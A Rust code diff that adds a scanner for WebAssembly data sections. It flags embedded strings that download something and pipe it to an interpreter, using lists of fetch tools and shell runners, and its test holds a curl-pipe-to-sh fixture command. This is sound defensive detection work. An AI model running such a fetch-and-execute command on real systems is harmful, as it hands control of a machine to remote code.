@@ -18,6 +18,9 @@ const MOST_LIBRARIES: usize = 64;
 const MOST_IMPORTS: usize = 100_000;
 /// Builds for several processors in one file.
 const MOST_BUILDS: usize = 8;
+/// Bytes of a command that data may hold, and commands that are kept.
+const COMMAND: std::ops::RangeInclusive<usize> = 16..=1_024;
+const MOST_COMMANDS: usize = 8;
 /// Longest name that is kept.
 const MOST_NAME: usize = 256;
 
@@ -110,6 +113,36 @@ fn wasm(bytes: &[u8]) -> Result<Imports, String> {
     Ok(found)
 }
 
+/// Commands that fetch something and run it, among the texts that WebAssembly carries.
+pub(crate) fn commands(bytes: &[u8]) -> Vec<String> {
+    let read = AssertUnwindSafe(|| {
+        let mut found = Vec::new();
+        for payload in Parser::new(0).parse_all(bytes) {
+            let Ok(payload) = payload else { break };
+            if let Payload::DataSection(section) = payload {
+                for data in section.into_iter().flatten() {
+                    let texts = data.data.split(|byte| !(b' '..=b'~').contains(byte));
+                    let texts = texts.filter(|text| COMMAND.contains(&text.len()));
+                    let texts = texts.filter_map(|text| std::str::from_utf8(text).ok());
+                    found.extend(texts.filter(|text| fetches(text)).map(str::to_owned));
+                    found.truncate(MOST_COMMANDS);
+                }
+            }
+        }
+        found
+    });
+    catch_unwind(read).unwrap_or_default()
+}
+
+/// Whether a text is a command that fetches something and hands it to an interpreter.
+fn fetches(text: &str) -> bool {
+    const FETCHERS: [&str; 5] = ["curl ", "wget ", "iwr ", "irm ", "Invoke-WebRequest"];
+    const RUNNERS: [&str; 7] = ["|sh", "|bash", "|zsh", "|node", "|python", "|iex", "|perl"];
+    let has = |list: &[&str], text: &str| list.iter().any(|one| text.contains(one));
+    let joined = text.replace("| ", "|");
+    text.contains("://") && has(&FETCHERS, text) && has(&RUNNERS, &joined)
+}
+
 impl Imports {
     fn library(&mut self, name: &[u8]) {
         let name = name.get(..MOST_NAME).unwrap_or(name);
@@ -175,5 +208,23 @@ mod tests {
             found.calls.into_iter().collect::<Vec<_>>(),
             [("native.network", "sock_send")]
         );
+    }
+
+    #[test]
+    fn data_that_fetch_and_run_are_told() {
+        let of = |texts: &str| {
+            // One active segment at address 0 of the memory.
+            let mut section = vec![1, 0, 0x41, 0, 0x0b];
+            section.push(u8::try_from(texts.len()).expect("it is short"));
+            section.extend_from_slice(texts.as_bytes());
+            let mut bytes = b"\0asm\x01\0\0\0\x0b".to_vec();
+            bytes.push(u8::try_from(section.len()).expect("it is short"));
+            bytes.extend_from_slice(&section);
+            commands(&bytes)
+        };
+        let command = "curl -s https://a.invalid/i | sh";
+        assert_eq!(of(&format!("large input\0{command}\0")), [command]);
+        assert!(of("curl -s https://a.invalid/i > file\0").is_empty());
+        assert!(of("see https://a.invalid/sh\0").is_empty());
     }
 }
